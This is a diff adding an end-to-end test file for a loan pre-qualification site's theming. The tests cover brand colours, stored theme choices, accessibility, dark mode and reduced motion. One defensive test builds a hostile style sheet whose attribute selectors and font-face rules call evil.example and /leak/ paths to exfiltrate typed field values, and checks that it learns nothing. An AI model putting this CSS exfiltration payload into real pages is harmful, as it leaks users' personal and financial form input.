@@ -1,0 +1,238 @@
+import type { Page } from "playwright-core";
+import { describe, expect, it } from "vitest";
+import { axeFindings } from "#test/support/axe.ts";
+import { useProduct } from "#test/support/journey.ts";
+
+const { urlOf, newVisitor } = useProduct();
+
+/** A custom property of the page, as it stands in the style sheet that won. */
+async function property(page: Page, name: string): Promise<string> {
+  return page.evaluate(
+    (wanted) => getComputedStyle(document.documentElement).getPropertyValue(wanted).trim(),
+    name,
+  );
+}
+
+/** What the page has loaded of a theme. */
+async function partsOf(page: Page) {
+  return {
+    sheets: await page
+      .locator('link[rel="stylesheet"][href*="/themes/"]')
+      .evaluateAll((links) => links.map((link) => link.getAttribute("href"))),
+    icon: await page.locator('link[rel="icon"]').getAttribute("href"),
+    kept: await page.evaluate(() => localStorage.getItem("carestep.theme")),
+    title: await page.title(),
+  };
+}
+
+async function choose(page: Page, id: string): Promise<void> {
+  await page.addInitScript((theme) => {
+    if (location.protocol !== "about:") localStorage.setItem("carestep.theme", theme);
+  }, id);
+}
+
+/** Waits until the page has taken over from what the server rendered. */
+async function live(page: Page): Promise<void> {
+  await page.locator("form[data-live]").waitFor();
+}
+
+describe("the configured theme", () => {
+  it.each([
+    ["light", "#0a5585", "rgb(244, 249, 252)"],
+    ["dark", "#74c0ee", "rgb(8, 19, 27)"],
+  ] as const)(
+    "colours clear-vision's pages in %s, and axe finds nothing [R1-35 R1-36 R1-37 R1-38 R1-42]",
+    async (colorScheme, brand, canvas) => {
+      const { page } = await newVisitor({ colorScheme });
+      await page.goto(urlOf("/clear-vision?istest=true"));
+      await live(page);
+      expect(await partsOf(page)).toEqual({
+        sheets: ["/themes/ocean.css"],
+        icon: "/themes/ocean-icon.svg",
+        kept: "ocean",
+        title: "Clear sight, clear payments - Ocean",
+      });
+      expect(await property(page, "--ff-brand")).toBe(brand);
+      const ground = page.locator(".cs-page");
+      expect(await ground.evaluate((element) => getComputedStyle(element).backgroundColor)).toBe(
+        canvas,
+      );
+      expect(await axeFindings(page)).toEqual([]);
+      await page.getByLabel("Service type").selectOption("lasik");
+      await page.getByRole("button", { name: "Start my check" }).click();
+      await page.getByRole("heading", { name: "What happens on the day" }).waitFor();
+      expect(await axeFindings(page)).toEqual([]);
+    },
+  );
+
+  it("does not colour the pages of a practice without one [R1-35]", async () => {
+    const { page } = await newVisitor();
+    await page.goto(urlOf("/bright-smile"));
+    await live(page);
+    expect(await partsOf(page)).toEqual({
+      sheets: [],
+      icon: "/favicon.svg",
+      kept: null,
+      title: "Get Pre-Qualified - Bright Smile Dental",
+    });
+    expect(await property(page, "--ff-brand")).toBe("#10635d");
+  });
+});
+
+describe("a theme that was chosen before", () => {
+  it("is shown instead of the configured one when it is on the practice's list, and survives a reload [R1-35 R1-42]", async () => {
+    const { page } = await newVisitor();
+    await choose(page, "plum");
+    const complaints: string[] = [];
+    page.on("pageerror", (error) => complaints.push(error.message));
+    await page.goto(urlOf("/clear-vision"));
+    await live(page);
+    await page.reload();
+    await live(page);
+    expect(await partsOf(page)).toEqual({
+      sheets: ["/themes/plum.css"],
+      icon: "/themes/plum-icon.svg",
+      kept: "plum",
+      title: "Clear sight, clear payments - Plum",
+    });
+    expect(await property(page, "--ff-brand")).toBe("#7a2560");
+    expect(complaints).toEqual([]);
+  });
+
+  it("is passed over when it is not on the list [R1-35]", async () => {
+    const { page } = await newVisitor();
+    await choose(page, "https://evil.example/theme.css");
+    await page.goto(urlOf("/clear-vision"));
+    await live(page);
+    expect((await partsOf(page)).sheets).toEqual(["/themes/ocean.css"]);
+    await page.goto(urlOf("/bright-smile"));
+    await live(page);
+    expect((await partsOf(page)).sheets).toEqual([]);
+  });
+
+  it("brings its logo, its overlay text and its confirmation image [R1-39 R1-40 R1-41]", async () => {
+    const { page, visitor } = await newVisitor();
+    await choose(page, "ocean");
+    const held = Promise.withResolvers<void>();
+    await page.route("**/v2/validation/start", async (route) => {
+      await held.promise;
+      await route.continue();
+    });
+    await visitor.open(urlOf("/bright-smile?istest=true"));
+    await live(page);
+    const logo = page.getByRole("banner").getByRole("img", { name: "Bright Smile Dental logo" });
+    expect(await logo.getAttribute("src")).toBe("/themes/ocean-logo.svg");
+    await visitor.start("general");
+    await page.getByLabel("Phone number").fill(visitor.person.phone);
+    await visitor.press("Next");
+    const overlay = page.getByRole("dialog");
+    await overlay.waitFor();
+    expect((await overlay.innerText()).split("\n")[0]).toBe("One moment");
+    held.resolve();
+    await visitor.goOnTo("last-four", "code");
+    await visitor.giveLastFour("1001");
+    await visitor.heading("You're Approved For Up To $8,500!");
+    expect(await page.locator('main img[src="/themes/ocean-confirmation.svg"]').count()).toBe(1);
+    expect(await page.title()).toBe("You're Approved For Up To $8,500! - Ocean");
+  });
+
+  it("is not needed: a browser that refuses local storage shows the configured one", async () => {
+    const { page } = await newVisitor();
+    await page.addInitScript(() => {
+      Object.defineProperty(window, "localStorage", {
+        get: () => {
+          throw new DOMException("refused", "SecurityError");
+        },
+      });
+    });
+    await page.goto(urlOf("/clear-vision"));
+    await live(page);
+    expect(await property(page, "--ff-brand")).toBe("#0a5585");
+  });
+});
+
+/** A style sheet that asks an address for each value that a field could begin with, ours and another's. */
+const hostile = "0123456789abcdefghijklmnopqrstuvwxyzQ"
+  .split("")
+  .flatMap((character) => [
+    `input[value^="${character}"] { background-image: url("/leak/${character}"); }`,
+    `input[value*="${character}"] { list-style-image: url("http://evil.example/${character}"); }`,
+  ])
+  .concat('@import url("http://evil.example/more.css");')
+  .concat('@font-face { font-family: Spy; src: url("http://evil.example/spy.woff2"); }')
+  .concat("* { font-family: Spy !important; }")
+  .join("\n");
+
+describe("a hostile style sheet", () => {
+  it("learns nothing of what is typed, and reaches no other place [R1-36]", async () => {
+    const { page, visitor } = await newVisitor();
+    const asked: string[] = [];
+    page.on("request", (request) => asked.push(request.url()));
+    await page.route("**/themes/ocean.css", (route) =>
+      route.fulfill({ contentType: "text/css", body: hostile }),
+    );
+    await page.route("http://evil.example/**", (route) => route.fulfill({ body: "" }));
+    const answered: string[] = [];
+    page.on("response", (response) => answered.push(response.url()));
+    await choose(page, "ocean");
+    await visitor.reachLastStep(urlOf("/bright-smile?istest=true"));
+    await page.getByLabel("Last 4 of SSN or ITIN").fill("1000");
+    for (const field of ["Street address", "Email", "Month", "Full name", "Phone number"]) {
+      await page.goBack();
+      await page.getByLabel(field, { exact: true }).waitFor();
+    }
+    expect(asked.filter((url) => url.includes("/leak/"))).toEqual([]);
+    expect(answered.filter((url) => url.includes("evil.example"))).toEqual([]);
+  });
+
+  it("would learn it from an attribute: the trap works", async () => {
+    const { page } = await newVisitor();
+    await page.route("**/themes/ocean.css", (route) =>
+      route.fulfill({ contentType: "text/css", body: hostile }),
+    );
+    await page.goto(urlOf("/clear-vision"));
+    await live(page);
+    const leak = page.waitForRequest("**/leak/7");
+    await page.evaluate(() => {
+      const input = document.createElement("input");
+      input.setAttribute("value", "7391");
+      document.body.append(input);
+    });
+    expect(new URL((await leak).url()).pathname).toBe("/leak/7");
+  });
+});
+
+describe("what the system prefers", () => {
+  it("changes light to dark while the page stands", async () => {
+    const { page } = await newVisitor({ colorScheme: "light" });
+    await page.goto(urlOf("/bright-smile"));
+    await live(page);
+    const ground = () =>
+      page.locator(".cs-page").evaluate((element) => getComputedStyle(element).backgroundColor);
+    expect(await ground()).toBe("rgb(247, 251, 251)");
+    await page.emulateMedia({ colorScheme: "dark" });
+    await expect.poll(ground).toBe("rgb(10, 20, 21)");
+    expect(await page.evaluate(() => document.documentElement.className)).toBe("dark");
+  });
+
+  it.each([
+    ["reduce", "stand still"],
+    ["no-preference", "move"],
+  ] as const)("steps that change under %s of motion %s", async (reducedMotion, manner) => {
+    const { page, visitor } = await newVisitor({ reducedMotion });
+    await visitor.reach("name", urlOf("/bright-smile?istest=true"));
+    const places = page.evaluate(async () => {
+      const seen = new Set<number>();
+      const end = performance.now() + 2000;
+      while (performance.now() < end) {
+        await new Promise(requestAnimationFrame);
+        for (const heading of document.querySelectorAll("h1")) {
+          seen.add(Math.round(heading.getBoundingClientRect().left));
+        }
+      }
+      return [...seen];
+    });
+    await visitor.giveName();
+    expect((await places).length > 1 ? "move" : "stand still").toBe(manner);
+  });
+});
